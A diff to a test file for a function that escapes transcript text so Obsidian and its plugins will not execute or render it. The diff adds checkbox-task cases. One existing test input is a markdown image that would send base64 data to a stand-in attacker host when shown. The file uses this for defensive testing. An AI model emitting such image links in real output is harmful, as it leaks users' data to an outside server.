@@ -16,13 +16,15 @@ describe("inertLine: transcript text that Obsidian or a plugin would run, or tha
 		["an Obsidian comment", "a %%hidden%% word", "a %\\%hidden%\\% word"],
 		["an image that would be fetched when shown", "![status](https://attacker.example/p.png?d=aGVsbG8)", "\\![status](https://attacker.example/p.png?d=aGVsbG8)"],
 		["a reference image", "see ![logo][1]", "see \\![logo][1]"],
+		["a task Tasks and Dataview would list among the user's", "- [ ] Run the migration", "- \\[ ] Run the migration"],
+		["a done task in a quote", "> 2. [x] Deploy", "> 2. \\[x] Deploy"],
 	])("%s", (_what, input, expected) => {
 		expect(inertLine(input)).toBe(expected);
 		// Made once: a second pass changes nothing more.
 		expect(inertLine(expected)).toBe(expected);
 	});
 
-	it.each(["a < b and c > d", "x <= 3", "50% of 3 <- 4", "`<div>` in code stays", "`= this.file.name` is a read-only query", "already escaped \\<div>", "plain words", "an embed ![[Daily note]] stays", "Wow! [link](x)", "`![x](y)` in code"])("keeps %s", (text) => {
+	it.each(["a < b and c > d", "x <= 3", "50% of 3 <- 4", "`<div>` in code stays", "`= this.file.name` is a read-only query", "already escaped \\<div>", "plain words", "an embed ![[Daily note]] stays", "Wow! [link](x)", "`![x](y)` in code", "- [link](x) in a list", "- [[Wiki link]]", "[ ] not a list item"])("keeps %s", (text) => {
 		expect(inertLine(text)).toBe(text);
 	});
 });
